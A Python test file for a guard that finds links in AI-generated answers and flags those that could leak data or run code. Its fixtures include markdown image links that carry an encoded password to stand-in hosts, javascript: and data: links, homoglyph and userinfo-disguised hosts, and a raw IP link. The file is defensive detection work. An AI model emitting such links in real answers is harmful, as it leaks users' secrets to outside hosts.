"""Links in answers: found however they are written, and told apart by what they carry."""

import base64
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from airside.guards.output.exfiltration import CARRIES, RUNS, Talk, carried, found
from airside.guards.output.links import LINKS_MAX, fits, links

WORDS = "the customer's password is hunter2"
B64 = base64.b64encode(WORDS.encode()).decode()
URLSAFE = base64.urlsafe_b64encode(WORDS.encode()).decode().rstrip("=")
HEX = WORDS.encode().hex()
NOBODY = Talk(("*.ours.test", "cdn.test"), lambda host: host == "named.test", lambda link: "quoted" in link)


@pytest.mark.parametrize(
    ("text", "url", "fetched"),
    [
        ("![x](https://a.test/p.png)", "https://a.test/p.png", True),
        ("![x]( <https://a.test/p.png> )", "https://a.test/p.png", True),
        ('[x](https://a.test/p "title")', "https://a.test/p", False),
        ("see https://a.test/p.", "https://a.test/p", False),
        ("(https://a.test/p_(x))", "https://a.test/p_(x)", False),
        ("<https://a.test/p>", "https://a.test/p", False),
        ("<img alt='y' src='https://a.test/p'>", "https://a.test/p", True),
        ("<IMG SRC=//a.test/p>", "//a.test/p", True),
        ('<a href="https://a.test/p">', "https://a.test/p", False),
        ("![x](//a.test/p)", "//a.test/p", True),
        ("![x][r]\n\n[r]: https://a.test/p", "https://a.test/p", True),
        ("[x][r]\n\n[r]: https://a.test/p", "https://a.test/p", False),
        ("div { background: url(https://a.test/p) }", "https://a.test/p", True),
        ("[x](javascript:alert(1))", "javascript:alert(1)", False),
        ("HTTPS://A.test/p", "HTTPS://A.test/p", False),
        ("![x](https:\\\\a.test\\p)", None, True),
    ],
)
def test_every_way_to_write_a_link(text: str, url: str | None, fetched: bool) -> None:
    every = links(text)
    if url is None:
        return
    (link,) = every
    assert (link.url, link.fetched) == (url, fetched)
    assert text[link.start : link.end] == url


@pytest.mark.parametrize("data", [B64, URLSAFE, HEX])
@pytest.mark.parametrize(
    "shape", ["https://a.test/{}", "https://a.test/x?q={}", "https://a.test/x#{}", "https://a.test/a/{}/b"]
)
def test_encoded_words_in_a_link_are_data(data: str, shape: str) -> None:
    (one,) = found(f"![i]({shape.format(data)})", NOBODY)
    assert (one.kind, one.rule, one.score) == (CARRIES, "data_in_image", 1.0)
    (one,) = found(f"[i]({shape.format(data)})", NOBODY)
    assert (one.kind, one.rule) == (CARRIES, "data_in_link")


@pytest.mark.parametrize(
    "link",
    [
        "https://docs.test/library/asyncio-task.html?highlight=taskgroup",
        "https://shop.test/dp/B08N5WRWNW?ref=nav_signin&th=1",
        "https://code.test/a/b/commit/27a876d0b5f30b1485906091174e9360a8a5c0a3",
        "https://blog.test/@a/how-to-write-a-very-long-title-for-your-blog-post-1a2b3c4d5e6f",
        "https://de.test/Gr%C3%B6%C3%9Fe",
        "https://x.test/550e8400-e29b-41d4-a716-446655440000",
    ],
)
def test_ordinary_links_carry_nothing(link: str) -> None:
    assert carried(link) == 0.0
    assert found(f"see {link} for it", NOBODY) == []


def test_hosts_that_are_allowed_named_or_quoted() -> None:
    assert found(f"![x](https://a.ours.test/{B64}) ![x](https://cdn.test/{B64})", NOBODY) == []
    assert found("![x](https://named.test/p.png)", NOBODY) == []
    assert found(f"![x](https://b.test/quoted/{B64})", NOBODY) == []
    (one,) = found(f"![x](https://named.test/{B64})", NOBODY)
    assert one.kind == CARRIES
    assert not fits("evil-ours.test", ("*.ours.test",))
    assert not fits("ours.test.evil", ("*.ours.test",))


def test_what_must_not_leave_leaves_in_no_link() -> None:
    text = "[x](https://a.test/?k=swordfish)"
    (one,) = found(text, NOBODY, secrets=[(text.index("swordfish"), text.index(")"))])
    assert (one.kind, one.score) == (CARRIES, 1.0)


def test_disguised_hosts_and_scripts() -> None:
    rules = [
        one.rule for one in found("https://xn--pple-43d.test/ https://\u0430pple.test/ https://a.test@b.test/", NOBODY)
    ]
    assert rules == ["disguised_host"] * 3
    assert [one.kind for one in found("[x](javascript:alert(1)) <a href='data:text/html,x'>", NOBODY)] == [RUNS, RUNS]
    assert [one.rule for one in found("http://203.0.113.7/x", NOBODY)] == ["link_to_address"]


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_any_text_has_links_in_its_own_spans(text: str) -> None:
    for link in links("![](http://" + text):
        assert ("![](http://" + text)[link.start : link.end] == link.url
        assert link.host is not None
    found(text, NOBODY)


@pytest.mark.parametrize("piece", ["http://a.test/x ", "![](", "[", "<img ", "url(//", "https://" + "a" * 50 + "("])
def test_time_is_linear(piece: str) -> None:
    def seconds(size: int) -> float:
        text = piece * (size // len(piece))
        begin = time.process_time()
        found(text, NOBODY)
        return time.process_time() - begin

    seconds(10_000)
    assert seconds(1_000_000) < max(20 * seconds(100_000), 0.5)
    assert len(links("http://a.test/x " * 2_000)) == LINKS_MAX
